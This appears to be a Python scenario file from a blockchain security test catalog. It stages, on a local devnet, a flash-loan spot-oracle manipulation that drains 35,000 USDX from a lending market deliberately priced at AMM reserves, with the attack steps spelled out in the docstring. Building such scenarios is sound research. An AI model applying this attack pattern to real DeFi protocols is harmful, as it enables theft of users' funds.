"""Scenario `oracle-manipulation-lending`: a lending market priced at an AMM pair's spot reserves.

SpotLendingMarket lends USDX against WETH collateral and values the WETH at the WETH/USDX pair's
current reserves (`getReserves`), the pattern behind the Cream, Inverse, Warp and Harvest losses.
Alice, carol and dave supply 50,000 USDX; erin borrows 15,000 against 10 WETH and repays 5,000;
dave redeems 5,000, leaving 35,000 USDX of cash. In one transaction mallory's OracleAttacker
flash-borrows 1,000,000 USDX from the FlashLender, buys WETH with it (the pair's WETH price rises
about 19-fold), wraps 2 of its own ETH and posts them as collateral at that price, borrows the
market's whole 35,000 USDX, sells the WETH back, repays the loan plus the 0.09% fee and sends
mallory the rest.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import deploy
from timemachine.catalog.scenarios.markets import USD, markets
from timemachine.catalog.scenarios.world import World

ATTACKER = "mallory"
SUPPLIES = {"alice": 30_000 * USD, "carol": 10_000 * USD, "dave": 10_000 * USD}
BORROWER = "erin"
BORROWER_COLLATERAL = 10 * ETHER
BORROWED = 15_000 * USD
REPAID = 5_000 * USD
REDEEMED = 5_000 * USD
"""Dave takes back part of his supply: the market keeps 35,000 USDX of cash."""
CASH = 35_000 * USD
LOAN = 1_000_000 * USD
"""USDX flash-borrowed from the FlashLender and swapped into the WETH/USDX pair."""
COLLATERAL = 2 * ETHER
"""The attacker's own ETH, sent with the attack, wrapped and posted at the pumped price."""
EXPLOIT_GAS = 1_500_000


async def stage(world: World) -> ScenarioRecord:
    """Honest suppliers and a borrower use the market; then the one-tx oracle attack."""
    chain, weth, a = world.chain, world.weth, actor_address
    market_contracts = await markets(world)
    usdx, pair, lender = market_contracts.usdx, market_contracts.weth_usdx, market_contracts.lender
    market = await deploy(
        chain, "deployer", "SpotLendingMarket", usdx.address, weth.address, pair.address
    )
    attacker = await deploy(chain, ATTACKER, "OracleAttacker")
    await weth.send(BORROWER, "deposit", value=BORROWER_COLLATERAL)
    await chain.mine()

    for user, amount in SUPPLIES.items():
        await usdx.send(user, "approve", market.address, 2**256 - 1)
        await market.send(user, "mint", amount)
    await weth.send(BORROWER, "approve", market.address, 2**256 - 1)
    await usdx.send(BORROWER, "approve", market.address, 2**256 - 1)
    await market.send(BORROWER, "depositCollateral", BORROWER_COLLATERAL)
    await chain.mine()

    await market.send(BORROWER, "borrow", BORROWED)
    await chain.mine()
    await market.send(BORROWER, "repayBorrow", REPAID)
    await market.send("dave", "redeem", REDEEMED)
    await chain.mine()

    outcome = await measure_exploit(
        chain,
        lambda: attacker.send(
            ATTACKER,
            "attack",
            lender.address,
            usdx.address,
            LOAN,
            pair.address,
            market.address,
            weth.address,
            value=COLLATERAL,
            gas=EXPLOIT_GAS,
        ),
        attackers=[a(ATTACKER), attacker.address],
        victims=[market.address, pair.address, lender.address],
        tokens=[usdx.address, weth.address],
        expected_losses={usdx.address.lower(): CASH},
        what="spot-oracle manipulation",
    )
    return SCENARIO.exploited(
        outcome, attacker=a(ATTACKER), contracts=[attacker.address], victims=list(outcome.losses)
    )


SCENARIO = declared("oracle-manipulation-lending", stage)
